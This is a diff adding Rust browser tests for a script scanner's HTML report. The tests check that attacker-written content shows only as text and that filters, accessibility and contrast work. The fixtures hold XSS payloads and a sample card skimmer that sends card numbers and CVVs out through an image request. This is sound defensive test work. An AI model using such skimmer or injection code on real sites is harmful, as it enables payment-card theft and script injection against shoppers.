@@ -1,0 +1,258 @@
+//! The page of `verdict scan --report` in a real browser, full of what attackers write.
+
+#![allow(clippy::unwrap_used, reason = "what is not as expected fails the test")]
+
+mod binary;
+mod webdriver;
+
+use std::path::Path;
+use std::time::Duration;
+use std::{fs, thread};
+
+use binary::{Folder, PLAIN, examples, run};
+use serde_json::{Value, json};
+use webdriver::{Browser, Server};
+
+/// Everything that could make a browser run or load something, in names, addresses, pages, snippets and errors.
+fn hostile_page(port: u16) -> (Folder, String) {
+    let server = format!("http://127.0.0.1:{port}");
+    let image = |mark: &str| format!("<img src={server}/{mark} onerror=window.pwned=1>");
+    let attribute = "\" autofocus onfocus=window.pwned=1 x=\"' onmouseover='window.pwned=1";
+    let closing = "</script></style></title></textarea></pre></template>-->";
+    let skimmer = format!(
+        "document.querySelector('#pay').addEventListener('click', function () {{\n\
+         var card = {{ cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value }};\n\
+         new Image().src = '{server}/mark-snippet{closing}<script>window.pwned=1</script>{attribute}?d=' + btoa(JSON.stringify(card));\n}});"
+    );
+    let entry = |url: &str, text: &str| {
+        json!({"pageref": "p", "request": {"url": url},
+            "response": {"content": {"mimeType": "text/javascript", "text": text}}})
+    };
+    let har = json!({"log": {
+        "pages": [{"id": "p", "title": format!("https://shop.example/mark-page{closing}{}{attribute}", image("page"))}],
+        "entries": [
+            entry("https://clean.example/a.js", PLAIN),
+            entry(&format!("{server}/mark-url{closing}{}{attribute}", image("url")), PLAIN),
+            entry("javascript:window.pwned=1//mark-scheme", PLAIN),
+            entry("https://bidi.example/\u{202e}mark-bidi\u{2066}\u{0}.js", PLAIN),
+            entry(&format!("https://cdn.evil.example/mark-listed{}", image("listed")), &skimmer),
+            format!("mark-error{}", image("error")),
+        ],
+    }});
+    let folder = Folder::new(&[
+        ("a-clean.js", PLAIN.as_bytes()),
+        (&format!("mark-name{}.js", image("name").replace('/', "&#47;")), PLAIN.as_bytes()),
+        ("r.har", har.to_string().as_bytes()),
+        ("z.js", skimmer.as_bytes()),
+        ("feed.txt", b"evil.example\n"),
+    ]);
+    let feed = format!("{}:domains:phishing", folder.at("feed.txt"));
+    let report = folder.at("report.html");
+    let ran = run(&["scan", folder.path().to_str().unwrap(), "--feed", &feed, "--report", &report]);
+    assert_eq!(ran.status, Some(1), "{ran:?}");
+    (folder, report)
+}
+
+fn set(browser: &Browser, field: &str, value: &str) {
+    browser.run(&format!(
+        "const field = document.getElementById('filters').elements.namedItem({});
+         field.value = {};
+         field.dispatchEvent(new Event('input', {{ bubbles: true }}));",
+        json!(field),
+        json!(value)
+    ));
+}
+
+fn count(browser: &Browser, selector: &str) -> u64 {
+    browser.run(&format!("return document.querySelectorAll({}).length", json!(selector))).as_u64().unwrap()
+}
+
+const SHOWN: &str = "details.item:not([hidden])";
+
+#[test]
+fn hostile_texts_run_nothing_and_load_nothing() {
+    let Some(browser) = Browser::start() else { return };
+    let server = Server::start();
+    let (_folder, report) = hostile_page(server.port);
+    browser.open(&report);
+    browser.run("for (const item of document.querySelectorAll('details')) item.open = true;");
+    thread::sleep(Duration::from_millis(700));
+
+    assert_eq!(browser.run("return typeof window.pwned"), "undefined");
+    assert_eq!(server.requests(), 0, "the page loads nothing");
+    assert_eq!(browser.console(), [""; 0], "nothing had to be stopped");
+    // All of it is there, as text, and only our own elements are.
+    let text = browser.run("return document.body.textContent").as_str().unwrap().to_owned();
+    for mark in
+        ["mark-name", "mark-url", "mark-page", "mark-snippet", "mark-scheme", "mark-listed", "mark-error"]
+    {
+        assert!(text.contains(mark), "{mark}");
+    }
+    assert!(text.contains("<img src=http://127.0.0.1"), "as it was written");
+    assert!(text.contains("\\u{202e}mark-bidi\\u{2066}") && !text.contains('\u{202e}'));
+    assert_eq!(count(&browser, "script"), 1);
+    assert_eq!(count(&browser, "img, iframe, object, embed, link, base, [src], [onerror], [onfocus]"), 0);
+    assert_eq!(count(&browser, "[href]:not([href='#results']), [onmouseover], [autofocus]"), 0);
+
+    // The policy is a wall of its own: what gets into the page by another way is stopped.
+    browser.run(&format!(
+        "const image = document.createElement('img'); image.src = 'http://127.0.0.1:{}/x'; document.body.append(image);
+         const node = document.createElement('div');
+         try {{ node.setAttribute('onclick', 'window.pwned = 1'); }} catch (refused) {{}}
+         document.body.append(node); node.click();",
+        server.port
+    ));
+    thread::sleep(Duration::from_millis(300));
+    assert_eq!(browser.run("return typeof window.pwned"), "undefined");
+    assert_eq!(server.requests(), 0);
+    assert!(browser.console().iter().any(|line| line.contains("Content Security Policy")));
+
+    // The test can fail: the same texts in a page without walls do all of that.
+    let folder = Folder::new(&[(
+        "open.html",
+        format!("<script src=http://127.0.0.1:{}/x.js></script>", server.port).as_bytes(),
+    )]);
+    browser.open(&folder.at("open.html"));
+    thread::sleep(Duration::from_millis(300));
+    assert_eq!(browser.run("return typeof window.pwned"), "number");
+    assert!(server.requests() > 0);
+}
+
+#[test]
+fn malicious_rows_come_first_and_filters_work() {
+    let Some(browser) = Browser::start() else { return };
+    let (_folder, report) = hostile_page(9);
+    browser.open(&report);
+    browser.resize(1600, 1000, "light");
+    let states = browser.run(
+        "return [...document.querySelectorAll('#scripts details.item')].map((item) => item.dataset.state)",
+    );
+    let states: Vec<&str> = states.as_array().unwrap().iter().map(|state| state.as_str().unwrap()).collect();
+    let malicious = states.iter().filter(|state| **state == "malicious").count();
+    assert!(malicious >= 2 && malicious < states.len(), "{states:?}");
+    assert!(states[..malicious].iter().all(|state| *state == "malicious"), "{states:?}");
+    // What is malicious is open, with its score, its evidence and the feed.
+    let first = browser.run("return document.querySelector('#scripts details.item[open]').textContent");
+    assert!(first.as_str().unwrap().contains("Evidence in the code"), "{first}");
+    let all = count(&browser, SHOWN);
+
+    set(&browser, "state", "malicious");
+    assert!(count(&browser, SHOWN) >= malicious as u64 && count(&browser, SHOWN) < all);
+    assert_eq!(count(&browser, SHOWN), count(&browser, "details.item[data-state=malicious]:not([hidden])"));
+    let told = browser.run("return document.getElementById('shown').textContent");
+    assert_eq!(told, format!("Showing {} of {all}", count(&browser, SHOWN)));
+    set(&browser, "kind", "script");
+    assert_eq!(count(&browser, SHOWN), malicious as u64);
+    set(&browser, "by", "domain");
+    assert_eq!(count(&browser, SHOWN), 1);
+    set(&browser, "category", "Phishing");
+    assert_eq!(count(&browser, SHOWN), 1);
+    browser.run("document.querySelector('button[type=reset]').click()");
+    thread::sleep(Duration::from_millis(200));
+    assert_eq!(count(&browser, SHOWN), all);
+
+    // By the keyboard alone.
+    browser.keys("input[name=text]", "CLEAN.example");
+    assert_eq!(count(&browser, "#scripts details.item:not([hidden])"), 1);
+    assert_eq!(count(&browser, "#scripts details.item:not([hidden])[open]"), 0);
+    browser.keys("#scripts details.item:not([hidden]) summary", "\u{e007}");
+    assert_eq!(count(&browser, "#scripts details.item:not([hidden])[open]"), 1);
+    set(&browser, "text", "nothing has this name");
+    assert_eq!(count(&browser, SHOWN), 0);
+    assert_eq!(count(&browser, ".empty:not([hidden])"), 2);
+    set(&browser, "text", "");
+
+    set(&browser, "sort", "name");
+    let names = browser.run(
+        "return [...document.querySelectorAll('#scripts details.item')].map((item) => item.dataset.name)",
+    );
+    let names: Vec<&Value> = names.as_array().unwrap().iter().collect();
+    assert!(names.is_sorted_by_key(|name| name.as_str().unwrap()), "{names:?}");
+    set(&browser, "sort", "rank");
+    assert_eq!(count(&browser, "#scripts details.item:first-child[data-state=malicious]"), 1);
+}
+
+#[test]
+fn the_page_fits_narrow_and_wide_windows_and_names_everything() {
+    let Some(browser) = Browser::start() else { return };
+    let (_folder, report) = hostile_page(9);
+    browser.open(&report);
+    for (width, scheme) in [(400, "light"), (400, "dark"), (1600, "light"), (1600, "dark")] {
+        browser.resize(width, 900, scheme);
+        let overflow = browser.run("return document.documentElement.scrollWidth - innerWidth");
+        assert!(overflow.as_i64().unwrap() <= 0, "{width}: {overflow} pixels too wide");
+    }
+    // What a screen reader needs: a language, one heading of the first level, headings in order, named fields.
+    let outline = browser.run(
+        "return [document.documentElement.lang, document.querySelectorAll('h1').length,
+            [...document.querySelectorAll('select, input')].filter((field) => field.labels.length !== 1).length,
+            [...document.querySelectorAll('button')].filter((button) => !button.textContent.trim()).length,
+            document.querySelectorAll('main, [role=search], [role=status]').length,
+            [...document.querySelectorAll('svg')].filter((bar) => bar.getAttribute('aria-hidden') !== 'true').length]",
+    );
+    assert_eq!(outline, json!(["en", 1, 0, 0, 3, 0]));
+    // Text on its ground, by the contrast of WCAG 2.2 (1.4.3), in both schemes.
+    for scheme in ["light", "dark"] {
+        browser.resize(1600, 900, scheme);
+        let ratios = browser.run(CONTRASTS);
+        for row in ratios.as_array().unwrap() {
+            assert!(row[1].as_f64().unwrap() >= 4.5, "{scheme}: {row}");
+        }
+    }
+}
+
+/// Contrast ratios of texts that are in colour.
+const CONTRASTS: &str = "
+    const parse = (color) => color.match(/[\\d.]+/g).map(Number);
+    const luminance = (color) => {
+        const [r, g, b] = parse(color).slice(0, 3).map((c) => c / 255)
+            .map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
+        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+    };
+    const ground = (node) => {
+        for (let at = node; at; at = at.parentElement) {
+            const color = getComputedStyle(at).backgroundColor;
+            if (parse(color)[3] !== 0) return color;
+        }
+        return 'rgb(255, 255, 255)';
+    };
+    return ['.badge', '.headline', '.chip', '.made', 'h3', 'h4', '.signal', 'footer', '.count', '.tile dd', 'pre code'].map((selector) => {
+        const node = document.querySelector(selector);
+        const [a, b] = [luminance(getComputedStyle(node).color), luminance(ground(node))].sort((x, y) => y - x);
+        return [selector, (a + 0.05) / (b + 0.05)];
+    });";
+
+/// Makes the pictures of the README:
+///
+/// ```sh
+/// VERDICT_SCREENSHOTS=docs/images cargo test --workspace --test report_page
+/// ```
+#[test]
+fn the_example_shop_has_a_report() {
+    let folder = Folder::new(&[]);
+    let report = folder.at("shop.html");
+    // From the workspace's folder, so that names are as a reader of the README sees them.
+    let mut command = binary::command(&[
+        "scan",
+        "examples/shop",
+        "--feed",
+        "examples/feeds/demo-hosts.txt:hosts:malware",
+        "--report",
+        &report,
+    ]);
+    command.current_dir(examples().join(".."));
+    assert_eq!(binary::run_with(command, b"").status, Some(1));
+    let page = fs::read_to_string(&report).unwrap();
+    assert!(page.contains("2 malicious resources") && page.contains("order-review.js"));
+    let (Some(target), Some(browser)) = (std::env::var_os("VERDICT_SCREENSHOTS"), Browser::start()) else {
+        return;
+    };
+    let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(target);
+    fs::create_dir_all(&target).unwrap();
+    browser.open(&report);
+    for (width, height, scheme) in [(1600, 1000, "light"), (400, 860, "dark")] {
+        browser.resize(width, height, scheme);
+        thread::sleep(Duration::from_millis(200));
+        fs::write(target.join(format!("report-{width}-{scheme}.png")), browser.screenshot()).unwrap();
+    }
+}
